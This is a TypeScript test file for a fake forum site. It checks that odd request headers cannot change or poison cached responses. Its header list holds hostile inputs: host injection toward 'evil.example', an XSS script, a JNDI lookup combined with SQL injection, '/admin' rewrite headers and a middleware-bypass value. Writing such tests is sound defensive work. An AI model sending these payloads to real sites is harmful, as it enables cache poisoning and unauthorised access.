import { afterAll, expect, test } from 'vitest';
import { serveFakeSite } from '@/e2e/fixtures/serve-fake-site';
import type { HttpResponse } from '@/e2e/site/get';

const EVIL = 'evil.example';

/** A route of each kind of response: pages, a redirect, errors, documents, files and data. */
const ROUTES = [
  '/',
  '/board/topics/1',
  // Bypasses the fast path.
  '/board/topics/1?utm_source=x',
  '/board/topics/1.md',
  '/board/topics?page=1',
  '/board/topics?page=x',
  '/nowhere',
  '/robots.txt',
  '/feeds/nowhere.atom',
  '/api/board/forums',
  '/api/nowhere',
];

/** Headers that changed other sites' responses, poisoned their caches or opened access. */
const HEADERS: [name: string, value: string][] = [
  ['host', EVIL],
  ['host', ''],
  ['x-forwarded-host', EVIL],
  ['x-forwarded-proto', 'javascript'],
  ['x-forwarded-prefix', `/${EVIL}`],
  ['x-forwarded-for', '<script>alert(1)</script>'],
  ['x-forwarded-for', Array(200).fill('10.0.0.1').join(', ')],
  ['forwarded', `for=1.2.3.4;host=${EVIL};proto=http`],
  ['x-original-url', '/admin'],
  ['x-rewrite-url', '/admin'],
  ['x-http-method-override', 'DELETE'],
  ['cookie', 'session=evil; NEXT_LOCALE=zh'],
  ['authorization', 'Basic ZXZpbDpldmls'],
  ['accept', 'text/x-component'],
  ['accept-language', 'zh-CN'],
  ['origin', `https://${EVIL}`],
  ['referer', `https://${EVIL}/?${'x'.repeat(1000)}`],
  ['user-agent', `\${jndi:ldap://${EVIL}/a}' OR 1=1 --<script>`],
  ['cache-control', 'no-cache, no-store, max-age=0'],
  ['pragma', 'no-cache'],
  ['if-modified-since', 'Thu, 01 Jan 1970 00:00:00 GMT'],
  ['if-match', '"evil"'],
  ['range', 'bytes=0-10'],
  ['rsc', '1'],
  ['next-action', '7f0000000000000000000000000000000000000000'],
  ['x-middleware-subrequest', 'middleware:middleware:middleware'],
  ['x-invoke-status', '500'],
];

/** Headers that describe the time, connection or cache, not the response. */
const OF_THE_MOMENT = new Set([
  'age',
  'cache-status',
  'connection',
  'date',
  'keep-alive',
  'x-cache',
]);

/** Returns all that a cache could store of a response. */
function essence({ status, headers, body }: HttpResponse) {
  const stored = Object.entries(headers).filter(([name]) => !OF_THE_MOMENT.has(name));
  return { status, headers: Object.fromEntries(stored), body };
}

const site = await serveFakeSite();
afterAll(site.stop);

test.each(ROUTES)('no odd header changes the response to %s, or the next one', async (route) => {
  await site.get(route);
  const clean = essence(await site.get(route));
  site.rendered.length = 0;
  for (const [name, value] of HEADERS) {
    expect(essence(await site.get(route, { [name]: value })), `${name}: ${value}`).toEqual(clean);
    expect(essence(await site.get(route)), `after ${name}`).toEqual(clean);
  }
  // All were the cached page.
  expect(site.rendered).toEqual([]);
});

test('a page that is first requested with an odd header is the same for everybody', async () => {
  const other = await serveFakeSite();
  for (const [at, header] of HEADERS.entries()) {
    const path = `/board/topics/${at + 100}`;
    const expected = essence(await other.get(path));
    const first = await site.get(path, Object.fromEntries([header]));
    expect(essence(first), header.join(': ')).toEqual(expected);
    expect(essence(await site.get(path)), `after ${header[0]}`).toEqual(expected);
  }
  await other.stop();
});
